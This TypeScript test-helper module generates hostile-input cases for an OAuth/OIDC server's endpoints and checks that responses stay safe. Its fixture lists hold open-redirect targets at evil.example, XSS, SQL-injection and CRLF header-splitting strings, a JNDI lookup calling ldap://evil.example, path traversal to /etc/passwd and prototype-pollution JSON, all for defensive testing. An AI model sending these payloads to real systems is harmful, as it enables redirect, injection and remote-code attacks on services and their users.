/**
 * The hostile values of oauth-hostile-input.test.ts, and the cases they make for one parameter:
 * missing, empty, repeated, 10 kB, malformed, open-redirect and injection payloads. A case is a
 * list of values (none = missing, two = repeated) or raw, already percent-encoded text, so that
 * malformed escapes (`%E0%A4%A`, `%0d%0a`) reach the endpoint exactly as an attacker sends them.
 */
import { expect } from 'vitest';

export const TEN_KB = 'A'.repeat(10 * 1024);

export type VariantKind = 'missing' | 'empty' | 'repeated' | 'oversized' | 'malformed' | 'redirect' | 'injection';

/** Stands for the parameter's value in a valid request (repeated cases send it twice, or with another). */
export const VALID = Symbol('valid value');

export interface Variant {
  kind: VariantKind;
  label: string;
  /** The parameter's values, in order: none when missing, two when repeated. */
  values: readonly (string | typeof VALID)[];
  /** Percent-encoded text sent as the parameter's value instead of `values`, byte for byte. */
  raw?: string;
  /** `raw` decodes to invalid UTF-8: a form body with it is refused as a whole (invalid_request). */
  invalidUtf8?: boolean;
  /** The value holds a NUL, which no OAuth parameter may (invalid_request). */
  nul?: boolean;
}

/** Where a redirect could be steered to, against a client registered with https://app.example.test/callback. */
export const OPEN_REDIRECT_PAYLOADS: readonly string[] = [
  'https://evil.example',
  '//evil.example',
  '///evil.example/callback',
  '/\\evil.example',
  'https://app.example.test.evil.example/callback',
  'https://app.example.test/callback/../x',
  'https://app.example.test/callback#frag',
  'https://app.example.test/callback?x=1',
  'https://app.example.test\\@evil.example',
  'https://app.example.test@evil.example/callback',
  'https://evil.example@app.example.test/callback',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'HTTPS://APP.EXAMPLE.TEST/CALLBACK',
  'http://app.example.test/callback',
];

export interface Payload {
  label: string;
  value?: string;
  raw?: string;
  invalidUtf8?: boolean;
  nul?: boolean;
}

/** Markup, SQL, header-splitting, NUL, lone surrogates and broken percent-encoding. */
export const INJECTION_PAYLOADS: readonly Payload[] = [
  { label: 'script tag', value: '<script>alert(1)</script>' },
  { label: 'attribute break-out', value: '"><img src=x onerror=alert(1)>' },
  { label: 'SQL', value: "' OR 1=1 --" },
  { label: 'SQL statement', value: "'; DROP TABLE grants; --" },
  { label: 'CRLF (decoded)', value: '\r\nSet-Cookie: x=1' },
  { label: 'CRLF (raw %0d%0a)', raw: '%0d%0aSet-Cookie:x=1' },
  { label: 'CRLF (literal %0d%0a text)', value: '%0d%0aSet-Cookie:x=1' },
  { label: 'NUL byte', value: 'a\u0000b', nul: true },
  { label: 'NUL byte (raw %00)', raw: '%00', nul: true },
  { label: 'lone surrogate', value: 'x\uD800y' },
  { label: 'UTF-8-encoded surrogate (raw %ED%A0%80)', raw: '%ED%A0%80', invalidUtf8: true },
  { label: 'truncated percent-encoding (raw %E0%A4%A)', raw: '%E0%A4%A', invalidUtf8: true },
  { label: 'invalid percent-encoding (raw %zz and %)', raw: '%zz%' },
  { label: 'invalid UTF-8 (raw %FF%FE)', raw: '%FF%FE', invalidUtf8: true },
  { label: 'right-to-left override', value: '\u202Egnp.exe' },
  { label: 'template and JNDI', value: '${jndi:ldap://evil.example/a}{{7*7}}' },
  { label: 'path traversal', value: '../../../../etc/passwd' },
  { label: 'prototype pollution JSON', value: '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}' },
];

/** Values of the wrong type, for parameters without a more specific list. */
export const GENERIC_MALFORMED: readonly string[] = ['-1', '1.5e309', 'true', 'null', '[]', '{"a":', 'not valid base64!'];

export interface ParamSpec {
  name: string;
  /** Wrong-type and malformed values for this parameter. */
  malformed?: readonly string[];
}

/** A value for a test name: quoted, escaped, at most 60 characters. */
export function quote(value: string): string {
  const quoted = JSON.stringify(value);
  return quoted.length > 60 ? `${quoted.slice(0, 57)}…"` : quoted;
}

/** Every case for one parameter, labelled for test names. */
export function variantsFor(spec: ParamSpec): Variant[] {
  const one = (kind: VariantKind, label: string, value: string): Variant => ({ kind, label, values: [value] });
  return [
    { kind: 'missing', label: 'missing', values: [] },
    one('empty', 'empty', ''),
    { kind: 'repeated', label: 'repeated with different values', values: [VALID, 'second'] },
    { kind: 'repeated', label: 'repeated with the same value', values: [VALID, VALID] },
    one('oversized', '10 kB', TEN_KB),
    ...(spec.malformed ?? GENERIC_MALFORMED).map((value) => one('malformed', `malformed ${quote(value)}`, value)),
    ...OPEN_REDIRECT_PAYLOADS.map((value) => one('redirect', `redirect ${quote(value)}`, value)),
    ...INJECTION_PAYLOADS.map(
      ({ label, value, raw, invalidUtf8, nul }): Variant => ({
        kind: 'injection',
        label,
        values: raw === undefined ? [value!] : [],
        ...(raw === undefined ? {} : { raw }),
        ...(invalidUtf8 ? { invalidUtf8 } : {}),
        ...(nul ? { nul } : {}),
      }),
    ),
  ];
}

/** Hostile parameter names the endpoints do not know, each with a hostile value. */
export const UNKNOWN_PARAMETERS: readonly { name: string; value: string }[] = [
  { name: 'unknown', value: '<script>alert(1)</script>' },
  { name: '<script>alert(1)</script>', value: 'x' },
  { name: 'redirect_uri[]', value: 'https://evil.example' },
  { name: 'client_id[x]', value: "' OR 1=1 --" },
  { name: '__proto__', value: '{"polluted":true}' },
  { name: 'constructor', value: 'prototype' },
  { name: 'a'.repeat(5000), value: 'long name' },
  { name: 'Set-Cookie', value: 'x=1' },
  { name: '\r\nLocation: https://evil.example', value: 'x' },
];

/**
 * The query string or form body of a request: `base` with the parameter `name` replaced by the
 * variant (left out, repeated, or given raw). VALID stands for base[name], or `example` when the
 * valid request leaves the parameter out.
 */
export function encodeWith(base: Readonly<Record<string, string>>, name: string, variant: Variant, example = 'value'): string {
  const params = new URLSearchParams();
  for (const [key, value] of Object.entries(base)) if (key !== name) params.append(key, value);
  for (const value of variant.values) params.append(name, value === VALID ? (base[name] ?? example) : value);
  const encoded = params.toString();
  if (variant.raw === undefined) return encoded;
  return `${encoded}${encoded ? '&' : ''}${encodeURIComponent(name)}=${variant.raw}`;
}

/** The values the endpoint sees for the parameter after decoding, when there is exactly one. */
export function singleDecodedValue(variant: Variant): string | undefined {
  const [value] = variant.values;
  if (variant.raw !== undefined || variant.values.length !== 1 || value === VALID) return undefined;
  return value;
}

// ---------------------------------------------------------------------------------------------
// Response checks shared by every endpoint.

/** Error codes each endpoint may answer with, by the spec that defines them. */
export const ERROR_CODES = {
  /** RFC 6749 §4.1.2.1, OIDC Core §3.1.2.6. server_error is left out: user input must never cause it. */
  authorization: [
    'invalid_request',
    'unauthorized_client',
    'access_denied',
    'unsupported_response_type',
    'invalid_scope',
    'temporarily_unavailable',
    'login_required',
    'consent_required',
    'interaction_required',
    'account_selection_required',
    'invalid_request_uri',
    'invalid_request_object',
    'request_not_supported',
    'request_uri_not_supported',
    'registration_not_supported',
  ],
  /** RFC 6749 §5.2. */
  token: ['invalid_request', 'invalid_client', 'invalid_grant', 'unauthorized_client', 'unsupported_grant_type', 'invalid_scope'],
  /** RFC 7009 §2.2.1 (with RFC 6749 §5.2 for client authentication). */
  revocation: ['invalid_request', 'invalid_client', 'unsupported_token_type'],
  /** RFC 7662 §2.3. */
  introspection: ['invalid_request', 'invalid_client'],
  /** RFC 6750 §3.1. */
  userinfo: ['invalid_request', 'invalid_token', 'insufficient_scope'],
} as const;

/** Optare's own error page codes, minus server_error. */
export const ERROR_PAGE_CODES = ['invalid_client', 'invalid_redirect_uri', 'invalid_request', 'request_expired', 'invalid_logout_request'];

/** Every response header the endpoints may send; anything else would be an injected header. */
const KNOWN_HEADERS = new Set([
  'cache-control',
  'pragma',
  'location',
  'content-type',
  'www-authenticate',
  'vary',
  'access-control-allow-origin',
  'access-control-expose-headers',
  'access-control-allow-methods',
  'access-control-allow-headers',
  'access-control-max-age',
]);

/** A Fetch Response, or the ProtocolResponse of the protocol endpoints: what the checks read. */
export interface AnyResponse {
  readonly status: number;
  readonly headers: Headers;
  text(): Promise<string>;
}

export interface SafetyOptions {
  /** The origin of a legitimate app; Access-Control-Allow-Origin may only ever echo it (or `*` for public documents). */
  allowedOrigins?: readonly string[];
  /** Whether this response may set a cookie (a logout that really ended the session). */
  cookieAllowed?: boolean;
}

/**
 * What holds for every answer to hostile input: no 5xx, only known headers (no header injected
 * through CRLF), no cookie, no CORS grant to a foreign origin, and no markup reflected raw.
 * Returns the body text.
 */
export async function expectSafeResponse(response: AnyResponse, options: SafetyOptions = {}): Promise<string> {
  expect(response.status, 'a hostile request must never cause a server error').toBeLessThan(500);
  for (const [name, value] of response.headers) {
    if (name === 'set-cookie' && options.cookieAllowed) continue;
    expect(KNOWN_HEADERS.has(name), `unexpected response header ${name}: ${value.slice(0, 80)}`).toBe(true);
    expect(value).not.toMatch(/[\r\n\0]/);
  }
  const allowOrigin = response.headers.get('access-control-allow-origin');
  if (allowOrigin !== null) expect(['*', ...(options.allowedOrigins ?? [])]).toContain(allowOrigin);
  expect(response.headers.get('access-control-allow-credentials')).toBeNull();
  const authenticate = response.headers.get('www-authenticate');
  if (authenticate !== null) expectNoRawMarkup(authenticate);
  const body = await response.text();
  expectNoRawMarkup(body);
  return body;
}

/** The markers of the XSS payloads must never appear unescaped. */
export function expectNoRawMarkup(text: string): void {
  expect(text).not.toMatch(/<script/i);
  expect(text).not.toMatch(/onerror\s*=/i);
  expect(text).not.toMatch(/<img/i);
}

/**
 * A JSON error body: `error` is one of `codes` (so never server_error), with the status the spec
 * gives it, and an optional string error_description. Returns the code.
 */
export function expectOAuthError(status: number, body: string, codes: readonly string[]): string {
  const parsed = JSON.parse(body) as { error?: unknown; error_description?: unknown };
  expect(typeof parsed.error).toBe('string');
  const error = parsed.error as string;
  expect(codes, `unexpected error code ${error} (${String(parsed.error_description)})`).toContain(error);
  if (parsed.error_description !== undefined) expectErrorDescription(parsed.error_description);
  expect(status).toBe(error === 'invalid_client' || error === 'invalid_token' ? 401 : error === 'insufficient_scope' ? 403 : 400);
  return error;
}

/**
 * RFC 6749 §4.1.2.1 and §5.2: error_description is NQSCHARs only (%x20-21 / %x23-5B / %x5D-7E),
 * so no quote, backslash, control character or anything beyond ASCII: nothing a hostile value
 * could smuggle in.
 */
export function expectErrorDescription(description: unknown): void {
  expect(typeof description).toBe('string');
  expect(description).toMatch(/^[\x20\x21\x23-\x5b\x5d-\x7e]*$/);
}
